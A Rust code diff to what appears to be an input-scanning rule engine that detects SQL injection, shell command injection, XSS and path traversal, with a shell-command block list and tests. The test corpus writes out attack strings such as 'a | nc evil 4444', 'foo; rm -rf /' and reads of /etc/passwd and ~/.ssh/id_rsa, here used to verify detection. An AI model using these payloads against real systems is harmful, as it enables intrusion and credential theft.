@@ -21,6 +21,7 @@ use regex_automata::util::syntax;
 use regex_automata::{Anchored, Input, PatternSet, meta};
 use serde::{Deserialize, Serialize};
 
+use crate::classify;
 use crate::config::ConfigError;
 use crate::text;
 
@@ -338,7 +339,8 @@ pub(crate) struct RuleEngine {
     anchored: Option<TriggeredSet>,
     /// Built-in patterns searched only in values holding a gate byte.
     gated: Option<TriggeredSet>,
-    /// Per byte: [`TRIGGER`] for `anchored`, [`GATE`] for `gated`.
+    /// Per byte: [`TRIGGER`] for `anchored`, [`GATE`] for `gated`, [`CTRL`] and [`COLON`]
+    /// for the value facts. Every byte with a flag is in [`classify::value_byte`].
     flags: [u8; 256],
     /// Every regex by source index, to strip what a rule matched.
     regexes: Vec<Regex>,
@@ -346,6 +348,10 @@ pub(crate) struct RuleEngine {
 
 const TRIGGER: u8 = 1;
 const GATE: u8 = 2;
+/// A byte that may start a forbidden control character.
+const CTRL: u8 = 4;
+/// `:`, which may start the `://` of a URL.
+const COLON: u8 = 8;
 
 /// Built-in patterns compiled together, with the bytes that trigger (or gate) a search.
 #[derive(Debug, Clone)]
@@ -403,62 +409,6 @@ impl TriggeredSet {
     }
 }
 
-/// Whether a byte may trigger or gate a built-in search: 0x22..=0x27 (`"` `$` `%` `&`
-/// `'`, and `#`), 0x2E..=0x2F (`.` `/`), 0x3A..=0x3E (`:` `;` `<` `=` `>`), 0x5C (`\`),
-/// 0x60 (`` ` ``), 0x7C (`|`): a superset of every category's bytes. Branch-free, so that
-/// [`chunk_may_hold_trigger`] compiles to vector compares.
-#[inline(always)]
-fn byte_may_trigger(b: u8) -> u8 {
-    u8::from(b.wrapping_sub(0x22) < 6)
-        | u8::from(b.wrapping_sub(0x2e) < 2)
-        | u8::from(b.wrapping_sub(0x3a) < 5)
-        | u8::from(b == 0x5c)
-        | u8::from(b == 0x60)
-        | u8::from(b == 0x7c)
-}
-
-/// Bytes tested at a time by the trigger prefilter.
-const CHUNK: usize = 16;
-
-/// The positions in a chunk of the bytes for which [`byte_may_trigger`] holds, as a bit
-/// mask (bit `i` for byte `i`). The per-byte flags are computed branch-free (vector
-/// compares), then gathered eight at a time with a multiplication: with every byte 0 or 1,
-/// `x * 0x0102_0408_1020_4080` has byte `k` of `x` at bit `56 + k` and no carries.
-#[inline(always)]
-fn chunk_trigger_mask(chunk: &[u8; CHUNK]) -> u32 {
-    let mut flags = [0u8; CHUNK];
-    for (f, &b) in flags.iter_mut().zip(chunk) {
-        *f = byte_may_trigger(b);
-    }
-    let [
-        a0,
-        a1,
-        a2,
-        a3,
-        a4,
-        a5,
-        a6,
-        a7,
-        b0,
-        b1,
-        b2,
-        b3,
-        b4,
-        b5,
-        b6,
-        b7,
-    ] = flags;
-    let lo = u64::from_le_bytes([a0, a1, a2, a3, a4, a5, a6, a7]);
-    let hi = u64::from_le_bytes([b0, b1, b2, b3, b4, b5, b6, b7]);
-    if lo | hi == 0 {
-        return 0;
-    }
-    const GATHER: u64 = 0x0102_0408_1020_4080;
-    let lo = (lo.wrapping_mul(GATHER) >> 56) as u32;
-    let hi = (hi.wrapping_mul(GATHER) >> 56) as u32;
-    lo | (hi << 8)
-}
-
 /// `\s` of the built-in patterns (ASCII whitespace, vertical tab included).
 fn is_regex_space(b: u8) -> bool {
     matches!(b, b'\t' | b'\n' | 0x0b | 0x0c | b'\r' | b' ')
@@ -496,15 +446,189 @@ fn xss_gate_at(b: &[u8], p: usize) -> bool {
     b[start..end].len() >= 2 && b[start..start + 2].eq_ignore_ascii_case(b"on")
 }
 
-/// A cheap filter on the byte after a trigger, for the triggers frequent in prose and
-/// URLs: every built-in pattern that starts with `.`, `/`, `\` or `:` continues with one
-/// of these bytes. (The property test `triggered_search_equals_plain_search` checks the
-/// whole triggered search against a plain search.)
-fn may_start_at(c: u8, next: Option<u8>) -> bool {
+/// The commands of the command injection rule, one by one (the rule's regex alternation
+/// is [`shell_commands!`]; a unit test checks that every command of it is here).
+fn is_shell_command(word: &[u8]) -> bool {
+    let mut buf = [0u8; 10];
+    let Some(lower) = buf.get_mut(..word.len()) else {
+        return false;
+    };
+    for (d, s) in lower.iter_mut().zip(word) {
+        *d = s.to_ascii_lowercase();
+    }
+    matches!(
+        &*lower,
+        b"rm"
+            | b"curl"
+            | b"wget"
+            | b"nc"
+            | b"ncat"
+            | b"netcat"
+            | b"bash"
+            | b"sh"
+            | b"zsh"
+            | b"dash"
+            | b"ksh"
+            | b"csh"
+            | b"tcsh"
+            | b"perl"
+            | b"ruby"
+            | b"php"
+            | b"node"
+            | b"lua"
+            | b"chmod"
+            | b"chown"
+            | b"chgrp"
+            | b"cat"
+            | b"echo"
+            | b"printf"
+            | b"mkfifo"
+            | b"telnet"
+            | b"ssh"
+            | b"scp"
+            | b"sftp"
+            | b"sudo"
+            | b"su"
+            | b"kill"
+            | b"pkill"
+            | b"killall"
+            | b"eval"
+            | b"exec"
+            | b"base64"
+            | b"xxd"
+            | b"whoami"
+            | b"uname"
+            | b"ifconfig"
+            | b"ping"
+            | b"nslookup"
+            | b"dig"
+            | b"powershell"
+            | b"pwsh"
+            | b"cmd"
+            | b"certutil"
+            | b"bitsadmin"
+            | b"wmic"
+            | b"crontab"
+            | b"nohup"
+            | b"awk"
+            | b"sed"
+            | b"xargs"
+            | b"ls"
+            | b"ps"
+            | b"socat"
+            | b"openssl"
+            | b"systemctl"
+            | b"shutdown"
+            | b"reboot"
+            | b"mkdir"
+            | b"rmdir"
+            | b"tar"
+            | b"docker"
+            | b"kubectl"
+    )
+}
+
+/// The first index at or after `i` that is not a `\s` of the built-in patterns.
+fn skip_spaces(b: &[u8], mut i: usize) -> usize {
+    while b.get(i).is_some_and(|&c| is_regex_space(c)) {
+        i += 1;
+    }
+    i
+}
+
+/// Whether `b[i..]` starts with `prefix`, ignoring ASCII case.
+fn starts_with_ci(b: &[u8], i: usize, prefix: &[u8]) -> bool {
+    b.get(i..i + prefix.len())
+        .is_some_and(|w| w.eq_ignore_ascii_case(prefix))
+}
+
+/// Whether a SQL injection pattern that starts with a quote may continue at `b[i..]`
+/// (after the quote and `\s*\)?\s*`): with the first token of one of its alternatives,
+/// `or`, `and`, `xor`, `;`, `--`, `/*` (tested as `/`), `#`, `union`, `waitfor`, `sleep`,
+/// `benchmark`, `pg_sleep`, `dbms_pipe`, `load_file` or `into`.
+fn sql_may_follow_quote(b: &[u8], i: usize) -> bool {
+    let Some(&c) = b.get(i) else {
+        return false;
+    };
+    let word: &[u8] = match c.to_ascii_lowercase() {
+        b';' | b'/' | b'#' => return true,
+        b'-' => b"--",
+        b'o' => b"or",
+        b'a' => b"and",
+        b'x' => b"xor",
+        b'u' => b"union",
+        b'w' => b"waitfor",
+        b's' => b"sleep",
+        b'b' => b"benchmark",
+        b'p' => b"pg_sleep",
+        b'd' => b"dbms_pipe",
+        b'l' => b"load_file",
+        b'i' => b"into",
+        _ => return false,
+    };
+    starts_with_ci(b, i, word)
+}
+
+/// A necessary condition for an anchored built-in pattern to match at the trigger byte
+/// `b[p]`, from the bytes that follow it: what each pattern starting with that byte needs
+/// next (a pattern that can start at a byte not listed here is always tried). Wrong only
+/// if it said no where a pattern matches; the property test
+/// `start_filter_never_hides_a_match` tries the anchored search at every trigger the
+/// filter refuses, and `triggered_search_equals_plain_search` compares the whole search
+/// with a plain search of every pattern.
+fn may_start_at(b: &[u8], p: usize) -> bool {
+    let Some(&c) = b.get(p) else {
+        return false;
+    };
+    let next = b.get(p + 1).copied();
     match c {
+        // Path traversal: `..`, `.%2e`; `.ssh` and `.aws` only after a separator or at
+        // the start (tried at the start separately).
         b'.' => matches!(next, Some(b'.' | b'%')),
+        // `/*` (SQL), `/..`, `/etc/`, `/proc/`, `/.ssh/`, `/.aws/`.
         b'/' | b'\\' => matches!(next, Some(b'*' | b'.' | b'e' | b'E' | b'p' | b'P')),
+        // `:\windows\`.
         b':' => next == Some(b'\\'),
+        // `%2e`, `%252e`, `%c0%ae`, `%e0%80%ae`, `%u002e`, `%00`.
+        b'%' => {
+            let after = b.get(p + 2).map(u8::to_ascii_lowercase);
+            match next.map(|n| n.to_ascii_lowercase()) {
+                Some(b'2') => matches!(after, Some(b'e' | b'5')),
+                Some(b'c' | b'e' | b'u' | b'0') => after == Some(b'0'),
+                _ => false,
+            }
+        }
+        // `$(`, `${`, `$IFS`.
+        b'$' => matches!(next, Some(b'(' | b'{' | b'i' | b'I')),
+        // Redirections: `<\s*/`, `>\s*/`, `>\s*&`.
+        b'<' | b'>' => matches!(b.get(skip_spaces(b, p + 1)), Some(b'/' | b'&')),
+        // A quote, then `\s*\)?\s*`, then the first token of an alternative.
+        b'\'' | b'"' => {
+            let mut i = skip_spaces(b, p + 1);
+            if b.get(i) == Some(&b')') {
+                i = skip_spaces(b, i + 1);
+            }
+            sql_may_follow_quote(b, i)
+        }
+        // `&&`, `||`; a separator, `\s*`, an optional `(/usr)?/s?bin/`, then a command
+        // and a word boundary: the whole word is a command, or starts with `python`.
+        b'&' | b'|' | b'`' => {
+            if next == Some(c) {
+                return true;
+            }
+            let start = skip_spaces(b, p + 1);
+            if b.get(start) == Some(&b'/') {
+                return true;
+            }
+            let len = b
+                .get(start..)
+                .unwrap_or_default()
+                .iter()
+                .take_while(|&&w| w.is_ascii_alphanumeric() || w == b'_')
+                .count();
+            let word = &b[start..start + len];
+            starts_with_ci(word, 0, b"python") || is_shell_command(word)
+        }
         _ => true,
     }
 }
@@ -524,6 +648,25 @@ pub(crate) enum ScanResult {
     Reject(usize),
     /// Only stripping rules matched.
     Strip(RuleSet),
+}
+
+/// What the one pass over a value found besides the rules.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub(crate) struct ValueFacts {
+    /// A forbidden control character ([`text::is_forbidden_control`]).
+    pub(crate) control: bool,
+    /// A `://`: without one, [`crate::ssrf::find_urls`] finds nothing. (May be true
+    /// without a URL.)
+    pub(crate) url: bool,
+}
+
+/// The rules and the facts of one value.
+#[derive(Debug)]
+pub(crate) struct ValueScan {
+    /// The other facts.
+    pub(crate) facts: ValueFacts,
+    /// The rules.
+    pub(crate) result: ScanResult,
 }
 
 /// Most strip rounds before a value that still matches is rejected instead.
@@ -712,6 +855,14 @@ impl RuleEngine {
             if gated_bytes[i] {
                 flags[i] |= GATE;
             }
+            // `i` is below 256.
+            let byte = i as u8;
+            if classify::control_lead(byte) != 0 && !matches!(byte, b'\t' | b'\n' | b'\r') {
+                flags[i] |= CTRL;
+            }
+            if byte == b':' {
+                flags[i] |= COLON;
+            }
         }
         Ok(Self {
             rules,
@@ -735,57 +886,76 @@ impl RuleEngine {
     pub(crate) fn any_match(&self, s: &str) -> bool {
         let b = s.as_bytes();
         self.ac.as_ref().is_some_and(|ac| ac.is_match(b))
-            || self.any_builtin(b)
+            || self.prescan(b).is_none()
             || self.set.as_ref().is_some_and(|set| set.is_match(b))
     }
 
-    /// The built-in rules in one pass over the bytes: an anchored search at each trigger
-    /// byte (and at the start), and the gated search if a gate byte was seen.
-    fn any_builtin(&self, b: &[u8]) -> bool {
+    /// One pass over a value's bytes: the built-in rules (an anchored search at each
+    /// trigger byte that [`may_start_at`] lets through, and at the start; the gated search
+    /// if a gate byte was seen), forbidden control characters and URL candidates.
+    /// `None` as soon as a built-in pattern matches (the facts are then incomplete).
+    fn prescan(&self, b: &[u8]) -> Option<ValueFacts> {
         let anchored = self.anchored.as_ref();
         // The patterns anchored with `^` start with `.`, `e` (etc) or `p` (proc); the
         // others start at a trigger byte, found by the loop.
         if matches!(b.first(), Some(b'.' | b'e' | b'E' | b'p' | b'P'))
             && anchored.is_some_and(|a| a.matches_at(b, 0))
         {
-            return true;
+            return None;
         }
+        let mut facts = ValueFacts::default();
         let mut gate_seen = false;
-        let mut base = 0;
-        while base < b.len() {
-            // Sixteen bytes at a time: the positions that may trigger or gate a search.
-            let mut mask = match b.get(base..base + CHUNK) {
-                Some(chunk) => {
-                    let mut w = [0u8; CHUNK];
-                    w.copy_from_slice(chunk);
-                    chunk_trigger_mask(&w)
-                }
-                None => {
-                    // The tail, padded with NUL (never a trigger).
-                    let mut w = [0u8; CHUNK];
-                    let tail = &b[base..];
-                    w[..tail.len()].copy_from_slice(tail);
-                    chunk_trigger_mask(&w)
-                }
-            };
-            while mask != 0 {
-                let p = base + mask.trailing_zeros() as usize;
-                mask &= mask - 1;
-                let c = b[p];
-                let f = self.flags[c as usize];
-                if f & GATE != 0 && !gate_seen {
-                    gate_seen = xss_gate_at(b, p);
-                }
-                if f & TRIGGER != 0
-                    && may_start_at(c, b.get(p + 1).copied())
-                    && anchored.is_some_and(|a| a.matches_at(b, p))
-                {
-                    return true;
-                }
+        let mut visit = |p: usize| {
+            let c = b[p];
+            let f = self.flags[c as usize];
+            if f == 0 {
+                return false;
             }
-            base += CHUNK;
+            if f & CTRL != 0 && !facts.control {
+                facts.control = classify::control_at(b, p);
+            }
+            if f & COLON != 0 && b.get(p + 1..p + 3) == Some(b"//") {
+                facts.url = true;
+            }
+            if f & GATE != 0 && !gate_seen {
+                gate_seen = xss_gate_at(b, p);
+            }
+            f & TRIGGER != 0 && may_start_at(b, p) && anchored.is_some_and(|a| a.matches_at(b, p))
+        };
+        let matched = if b.len() < classify::CHUNK {
+            // Short values (tags, names): byte by byte against the table.
+            (0..b.len()).any(|p| self.flags[b[p] as usize] != 0 && visit(p))
+        } else {
+            classify::find_flagged(b, classify::value_byte, &mut visit)
+        };
+        if matched || (gate_seen && self.gated.as_ref().is_some_and(|g| g.matches_anywhere(b))) {
+            return None;
         }
-        gate_seen && self.gated.as_ref().is_some_and(|g| g.matches_anywhere(b))
+        Some(facts)
+    }
+
+    /// Scans a value of the argument scope in one pass: the rules as [`Self::scan`], and
+    /// whether it holds a forbidden control character and a URL candidate. When nothing
+    /// matches (the common case) the facts come from the same pass; otherwise they are
+    /// computed apart.
+    pub(crate) fn scan_value(&self, s: &str, exempt: Option<&RuleSet>) -> ValueScan {
+        let b = s.as_bytes();
+        if let Some(facts) = self.prescan(b)
+            && !self.ac.as_ref().is_some_and(|ac| ac.is_match(b))
+            && !self.set.as_ref().is_some_and(|set| set.is_match(b))
+        {
+            return ValueScan {
+                facts,
+                result: ScanResult::Clean,
+            };
+        }
+        ValueScan {
+            facts: ValueFacts {
+                control: text::has_forbidden_control(s),
+                url: true,
+            },
+            result: self.scan(s, exempt),
+        }
     }
 
     /// Every rule that matches `s`.
@@ -1116,22 +1286,311 @@ mod tests {
     }
 
     #[test]
-    fn chunk_prefilter_is_exact_per_byte() {
-        let flagged = |c: u8| b"\"#$%&'./:;<=>\\`|".contains(&c);
+    fn byte_table_is_within_the_vector_class() {
+        let flagged =
+            |c: u8| b"\"#$%&'./:;<=>\\`|".contains(&c) || c < 0x20 || c == 0x7f || c == 0xc2;
+        let e = engine();
         for c in 0u8..=255 {
-            assert_eq!(byte_may_trigger(c) != 0, flagged(c), "{c:#x}");
-            for pos in 0..CHUNK {
-                let mut w = [b'a'; CHUNK];
-                w[pos] = c;
-                let expect = if flagged(c) { 1 << pos } else { 0 };
-                assert_eq!(chunk_trigger_mask(&w), expect, "{c:#x} at {pos}");
+            assert_eq!(classify::value_byte(c) != 0, flagged(c), "{c:#x}");
+            // The per-byte table flags nothing the vector class would skip.
+            if e.flags[c as usize] != 0 {
+                assert!(classify::value_byte(c) != 0, "{c:#x}");
             }
+            assert_eq!(
+                e.flags[c as usize] & CTRL != 0,
+                (c < 0x20 && !matches!(c, b'\t' | b'\n' | b'\r')) || c == 0x7f || c == 0xc2,
+                "{c:#x}"
+            );
         }
         // Every byte that starts a built-in pattern, or gates one, is flagged.
         for cat in Category::ALL {
-            for &t in cat.triggers().0 {
-                assert!(byte_may_trigger(t) != 0, "{t:#x}");
+            let (bytes, anchored) = cat.triggers();
+            for &t in bytes {
+                assert!(classify::value_byte(t) != 0, "{t:#x}");
+                let bit = if anchored { TRIGGER } else { GATE };
+                assert!(e.flags[t as usize] & bit != 0, "{t:#x}");
             }
+        }
+    }
+
+    #[test]
+    fn every_command_of_the_rule_is_listed() {
+        for cmd in concat!(shell_commands!()).split('|') {
+            if cmd.starts_with("python") {
+                continue;
+            }
+            assert!(is_shell_command(cmd.as_bytes()), "{cmd}");
+            assert!(is_shell_command(cmd.to_uppercase().as_bytes()), "{cmd}");
+        }
+        assert!(!is_shell_command(b"page"));
+        assert!(!is_shell_command(b""));
+        assert!(!is_shell_command(b"powershell2"));
+    }
+
+    /// The attack cases of the rule tests above, the harmless look-alikes, and encoding
+    /// and Unicode evasions: the fast path must agree with the full scan on each.
+    const CORPUS: &[&str] = &[
+        "' OR '1'='1",
+        "1\" or 1=1 --",
+        "x'; DROP TABLE users; --",
+        "1; delete from accounts",
+        "') UNION SELECT password FROM users",
+        "' union/**/all/**/select 1",
+        "'; WAITFOR DELAY '0:0:5'",
+        "1' AND SLEEP(5)",
+        "x' and benchmark(1000,md5(1))",
+        "'; select pg_sleep(5)",
+        "' || dbms_pipe.receive_message('a',5)",
+        "' union select load_file('/etc/passwd')",
+        "' into outfile '/tmp/x'",
+        "\" xor 1=1",
+        "UN/**/ION SEL/**/ECT",
+        "admin'--",
+        "admin'#",
+        "admin' )  -- x",
+        "1;--",
+        "foo; rm -rf /",
+        "a | nc evil 4444",
+        "x && curl http://e",
+        "$(whoami)",
+        "${IFS}cat${IFS}/etc/passwd",
+        "`whoami`",
+        "x > /etc/cron.d/job",
+        "name;/bin/sh",
+        "a & /usr/bin/id",
+        "a|/bin/sh",
+        "a & python3.8 -c x",
+        "a | PyThOn -c x",
+        "a &\tWGET http://x",
+        "x $IFS y",
+        "2>&1",
+        "x||y",
+        "<script>alert(1)</script>",
+        "< SCRIPT src=//x>",
+        "javascript:alert(1)",
+        "JaVaScRiPt :x",
+        "<img src=x onerror=alert(1)>",
+        "<body onload = x()>",
+        "<iframe src=x>",
+        "data:text/html;base64,xx",
+        "<svg/onload=x>",
+        "../../etc/passwd",
+        "..\\..\\windows",
+        "a/../b",
+        "..",
+        "%2e%2e%2fetc",
+        "%2E%2E/",
+        "..%2f..%2f",
+        "%252e%252e%252f",
+        "%c0%ae%c0%ae/",
+        "%e0%80%ae%e0%80%ae/",
+        "%U002E%u002e/",
+        ".%2e/",
+        "file.txt%00.png",
+        "/etc/shadow",
+        "etc/passwd",
+        "C:\\Windows\\System32",
+        "/proc/self/environ",
+        "~/.ssh/id_rsa",
+        ".aws/credentials",
+        "..;/admin",
+        // Harmless look-alikes.
+        "O'Brien",
+        "user's report",
+        "\"quoted\" text",
+        "select the best option",
+        "it's 5 o'clock; time for tea",
+        "a - b -- c",
+        "rm is a command",
+        "price $5",
+        "a & b",
+        "left | right",
+        "2 > 1",
+        "one = 1",
+        "description: a <b>bold</b> word",
+        "file..txt",
+        "v1.2.3",
+        "...",
+        "etc/passwords-manager",
+        "https://docs.example.com/articles/1?ref=search&page=2",
+        "https://e.com/a%20b%2Fc",
+        // Encodings and Unicode: caught or not, both paths must say the same.
+        "café'; DROP TABLE x; --",
+        "\u{FF07} OR \u{FF07}1\u{FF07}=\u{FF07}1",
+        "\u{FF1C}script\u{FF1E}",
+        "java\u{0}script:alert(1)",
+        "x\u{85}y; rm -rf /",
+        "naïve\u{9f}",
+        "\u{202E}txt.exe",
+        "%C0%AE%C0%AE%2F",
+        "\t\n\r",
+        "",
+    ];
+
+    /// The full scan: every built-in pattern and every blocked pattern in one plain
+    /// regex set, searched everywhere.
+    fn full_scan_set(blocked: &[BlockedPattern]) -> RegexSet {
+        let mut src: Vec<String> = Category::ALL
+            .iter()
+            .flat_map(|c| c.patterns().iter().map(|p| format!("(?i-u:{p})")))
+            .collect();
+        for b in blocked {
+            match b {
+                BlockedPattern::Literal(l)
+                | BlockedPattern::Detailed {
+                    literal: Some(l), ..
+                } => src.push(format!("(?i-u:{})", regex::escape(l))),
+                BlockedPattern::Detailed { regex: Some(r), .. } => src.push(r.clone()),
+                BlockedPattern::Detailed { .. } => {}
+            }
+        }
+        RegexSet::new(src).unwrap()
+    }
+
+    fn blocked_for_tests() -> Vec<BlockedPattern> {
+        vec![
+            BlockedPattern::Literal("DROP TABLE".into()),
+            BlockedPattern::Literal("xyzzy".into()),
+            BlockedPattern::Detailed {
+                name: Some("ssn".into()),
+                literal: None,
+                regex: Some(r"\b\d{3}-\d{2}-\d{4}\b".into()),
+                action: None,
+            },
+            BlockedPattern::Detailed {
+                name: Some("secret_ci".into()),
+                literal: None,
+                regex: Some(r"(?i)top\s+secret".into()),
+                action: None,
+            },
+        ]
+    }
+
+    /// The fast path against the full scan and the separate checks, on one value.
+    fn agree(e: &RuleEngine, full: &RegexSet, s: &str) -> Result<(), String> {
+        let fast = e.scan_value(s, None);
+        let want_match = full.is_match(s.as_bytes());
+        if matches!(fast.result, ScanResult::Clean) == want_match {
+            return Err(format!("rules differ on {s:?}"));
+        }
+        if e.any_match(s) != want_match {
+            return Err(format!("any_match differs on {s:?}"));
+        }
+        if fast.facts.control != text::has_forbidden_control(s) {
+            return Err(format!("control differs on {s:?}"));
+        }
+        if crate::ssrf::find_urls(s).next().is_some() && !fast.facts.url {
+            return Err(format!("URL missed in {s:?}"));
+        }
+        Ok(())
+    }
+
+    static FULL: LazyLock<(RuleEngine, RegexSet, RuleEngine, RegexSet)> = LazyLock::new(|| {
+        let blocked = blocked_for_tests();
+        let with_blocked =
+            RuleEngine::new(&BuiltinRules::default(), &blocked, RuleAction::Reject).unwrap();
+        (
+            engine(),
+            full_scan_set(&[]),
+            with_blocked,
+            full_scan_set(&blocked),
+        )
+    });
+
+    #[test]
+    fn fast_path_agrees_with_full_scan_on_the_corpus() {
+        let (e, full, eb, fullb) = &*FULL;
+        for s in CORPUS {
+            agree(e, full, s).unwrap();
+            agree(eb, fullb, s).unwrap();
+            // And with the value in the middle of prose, and at the end of a long value.
+            let wrapped = format!("some words {s} more words");
+            agree(e, full, &wrapped).unwrap();
+            let long = format!("{}{s}", "padding ".repeat(5));
+            agree(eb, fullb, &long).unwrap();
+        }
+        for s in [
+            "say XYZZY now",
+            "id 123-45-6789",
+            "TOP \t SECRET",
+            "a drop table b",
+        ] {
+            agree(eb, fullb, s).unwrap();
+            assert!(
+                !matches!(eb.scan_value(s, None).result, ScanResult::Clean),
+                "{s}"
+            );
+        }
+        // The facts of the fast path.
+        let v = e.scan_value("see https://example.com/x and \u{1}", None);
+        assert!(matches!(v.result, ScanResult::Clean));
+        assert_eq!(
+            v.facts,
+            ValueFacts {
+                control: true,
+                url: true
+            }
+        );
+        let v = e.scan_value("no url: here\ttab", None);
+        assert_eq!(v.facts, ValueFacts::default());
+        let v = e.scan_value("x\u{85}", None);
+        assert!(v.facts.control);
+        let v = e.scan_value("x\u{a0}", None);
+        assert!(!v.facts.control);
+    }
+
+    #[test]
+    fn start_filter_refuses_harmless_triggers() {
+        for (s, p) in [
+            ("user's report", 4),
+            ("a&page=2", 1),
+            ("a | left", 2),
+            ("price $5", 6),
+            ("2 > 1", 2),
+            ("a%20b", 1),
+            ("x.y", 1),
+        ] {
+            assert!(!may_start_at(s.as_bytes(), p), "{s} at {p}");
+        }
+        for (s, p) in [
+            ("x' or 1=1", 1),
+            ("x' ) -- ", 1),
+            ("a&&b", 1),
+            ("a & /bin/sh", 2),
+            ("a|LS", 1),
+            ("$(", 0),
+            ("> /etc", 0),
+            ("%2E", 0),
+        ] {
+            assert!(may_start_at(s.as_bytes(), p), "{s} at {p}");
+        }
+    }
+
+    /// Where [`may_start_at`] refuses a trigger, the anchored search finds nothing there.
+    fn filter_sound_on(s: &str) -> Result<(), String> {
+        let (e, ..) = &*FULL;
+        let Some(anchored) = &e.anchored else {
+            return Ok(());
+        };
+        let b = s.as_bytes();
+        for p in 0..b.len() {
+            // The start of the value is searched whatever its byte (`^` patterns).
+            let searched_as_start = p == 0 && matches!(b[0], b'.' | b'e' | b'E' | b'p' | b'P');
+            if !searched_as_start
+                && e.flags[b[p] as usize] & TRIGGER != 0
+                && !may_start_at(b, p)
+                && anchored.matches_at(b, p)
+            {
+                return Err(format!("{s:?} at {p}"));
+            }
+        }
+        Ok(())
+    }
+
+    #[test]
+    fn start_filter_never_hides_a_match_in_the_corpus() {
+        for s in CORPUS {
+            filter_sound_on(s).unwrap();
         }
     }
 
@@ -1159,6 +1618,116 @@ mod tests {
             assert!(!e.any_match(s), "{s:?}");
         }
     }
+
+    /// Words that reach every case of [`may_start_at`]: each trigger byte, what its
+    /// patterns need next, and near misses.
+    const FILTER_WORDS: &[&str] = &[
+        "'",
+        "\"",
+        ")",
+        " ",
+        "\t",
+        "\u{b}",
+        "or",
+        "OR",
+        "and",
+        "xor",
+        ";",
+        "--",
+        "-",
+        "/",
+        "/*",
+        "*/",
+        "#",
+        "union",
+        "UNION",
+        "all",
+        "select",
+        "waitfor delay",
+        "sleep",
+        "SLEEP(",
+        "(",
+        "benchmark(",
+        "pg_sleep(",
+        "dbms_pipe.",
+        "load_file(",
+        "into outfile",
+        "into dumpfile",
+        "s",
+        "report",
+        "&",
+        "&&",
+        "|",
+        "||",
+        "`",
+        "$",
+        "$(",
+        "${",
+        "}",
+        "$IFS",
+        "ifs",
+        "<",
+        ">",
+        ">&",
+        "2",
+        "1",
+        "/usr",
+        "/bin/",
+        "/sbin/",
+        "bin/",
+        "ls",
+        "LS",
+        "ps",
+        "page",
+        "p",
+        "python",
+        "python3.8",
+        "PYTHON2",
+        "py",
+        "rm",
+        "rmx",
+        "cat",
+        "curl",
+        "nc",
+        "_",
+        "x",
+        "%",
+        "%2e",
+        "%2E",
+        "%2f",
+        "%20",
+        "%252e",
+        "%25",
+        "%c0%ae",
+        "%C0",
+        "%e0%80%ae",
+        "%u002e",
+        "%U002E",
+        "%00",
+        "%0",
+        ".",
+        "..",
+        "e",
+        "etc",
+        "etc/",
+        "passwd",
+        "proc/self/",
+        ".ssh/",
+        ".aws/credentials",
+        ":",
+        ":\\",
+        "\\",
+        "windows\\",
+        "<script",
+        "=",
+        "on",
+        "onload",
+        "data:",
+        "text/html",
+        "é",
+        "\u{85}",
+        "\u{0}",
+    ];
 
     static PLAIN: LazyLock<(RuleEngine, RegexSet)> = LazyLock::new(|| {
         let plain = RegexSet::new(
@@ -1193,6 +1762,48 @@ mod tests {
             let s: String = words.concat();
             let (e, plain) = &*PLAIN;
             proptest::prop_assert_eq!(e.any_match(&s), plain.is_match(s.as_bytes()), "{:?}", s);
+        }
+
+        /// The start filter on words chosen to reach each of its cases.
+        #[test]
+        fn start_filter_never_hides_a_match(
+            words in proptest::collection::vec(proptest::sample::select(FILTER_WORDS.to_vec()), 0..10)
+        ) {
+            let s: String = words.concat();
+            if let Err(e) = filter_sound_on(&s) {
+                return Err(proptest::test_runner::TestCaseError::fail(e));
+            }
+            let (e, full, eb, fullb) = &*FULL;
+            if let Err(e) = agree(e, full, &s).and_then(|()| agree(eb, fullb, &s)) {
+                return Err(proptest::test_runner::TestCaseError::fail(e));
+            }
+        }
+
+        /// Arbitrary strings (any Unicode, control characters included): the fast path
+        /// and the full scan agree, and so do the facts.
+        #[test]
+        fn fast_path_agrees_with_full_scan_on_any_string(s in proptest::prelude::any::<String>()) {
+            if let Err(e) = filter_sound_on(&s) {
+                return Err(proptest::test_runner::TestCaseError::fail(e));
+            }
+            let (e, full, eb, fullb) = &*FULL;
+            if let Err(e) = agree(e, full, &s).and_then(|()| agree(eb, fullb, &s)) {
+                return Err(proptest::test_runner::TestCaseError::fail(e));
+            }
+        }
+
+        /// Arbitrary strings over the trigger bytes and their neighbours.
+        #[test]
+        fn fast_path_agrees_with_full_scan_on_trigger_soup(
+            s in "[a-zA-Z0-9 \t\n\x0b\x00\x7f\u{85}\u{a0};'\"/\\%.:<>=&|`$(){}*#@_-]{0,48}"
+        ) {
+            if let Err(e) = filter_sound_on(&s) {
+                return Err(proptest::test_runner::TestCaseError::fail(e));
+            }
+            let (e, full, eb, fullb) = &*FULL;
+            if let Err(e) = agree(e, full, &s).and_then(|()| agree(eb, fullb, &s)) {
+                return Err(proptest::test_runner::TestCaseError::fail(e));
+            }
         }
     }
 
